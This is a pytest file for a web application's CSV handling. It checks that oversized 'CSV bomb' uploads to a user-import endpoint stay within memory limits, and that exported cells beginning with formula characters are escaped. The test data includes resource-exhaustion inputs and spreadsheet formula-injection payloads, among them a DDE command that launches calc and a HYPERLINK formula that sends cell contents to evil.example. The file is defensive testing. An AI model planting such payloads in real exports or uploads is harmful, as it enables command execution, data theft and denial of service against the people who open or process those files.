"""Tables that are small to send and large to read, and cells that are formulas."""

from __future__ import annotations

import csv
import io

import pytest
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.adapters import csv_writer

MEGABYTE = 1024 * 1024


MOST_GROWTH = 50 * MEGABYTE


def form_with(content, name, media_type=None):
    file = FileStorage(io.BytesIO(content), name, content_type=media_type)
    boundary, form = encode_multipart({"file": file})
    return {"data": form, "content_type": f"multipart/form-data; boundary={boundary}"}


CSV_BOMBS = {
    "two million rows": b"email\n" + b"x\n" * 2_000_000,
    "four million columns": b"," * 4_000_000,
    "four million cells": b"email\n" + b"," * 4_000_000,
    "four million blank lines": b"\n" * 4_000_000,
    "four million quotes": b"email\n" + b'"' * 4_000_001,
    "one long cell": b"email\n" + b"x" * 4_000_000,
    "semicolons": b"email;first_name\n" + b";" * 4_000_000,
    "tabs": b"email\tfirst_name\n" + b"\t" * 4_000_000,
    "two million characters of UTF-16": "email\n".encode("utf-16") + "x\n".encode("utf-16-le") * 1_000_000,
    "characters of four bytes": b"email\n" + "\U0001f600\n".encode() * 800_000,
    "characters of Windows-1252": b"email\n" + b"\x80\n" * 2_000_000,
    "twenty thousand titles": b",".join(b"%x" % number for number in range(20_000)) + b"\n",
    "long titles": b"email," + b",".join(b"x" * 190 + b"%d" % number for number in range(490)) + b"\n",
    "untitled columns": b"email" + b"," * 99_000 + b"\n" + (b"," * 99_000 + b"\n") * 39,
    "invisible cells": b"email\n" + "\u200b\n".encode() * 1_000_000,
}


@pytest.mark.parametrize("bomb", CSV_BOMBS)
def test_a_table_that_is_a_bomb_takes_little_memory(api, make, bomb, request):
    office = api.as_(make.admin())
    sent = form_with(CSV_BOMBS[bomb], "people.csv")
    growth = request.getfixturevalue("growth")

    response = office.post("/users/import", **sent)

    assert response.status_code in {200, 400, 422}
    assert len(response.data) < 100_000
    assert growth() < MOST_GROWTH


FORMULAS = [
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\0=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://evil.example?"&A1,"x")',
        "SUM(1,2)\n",
        'a","=1+1',
    )
]


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_cell_of_ours_is_a_formula(formula):
    written = csv_writer.header(["person.name", "note"]) + csv_writer.line(
        {"person": {"name": formula}, "note": formula}, ["person.name", "note"]
    )

    columns, row = csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True)
    assert columns == ["person_name", "note"]
    assert row == [f"'{formula}"] * 2
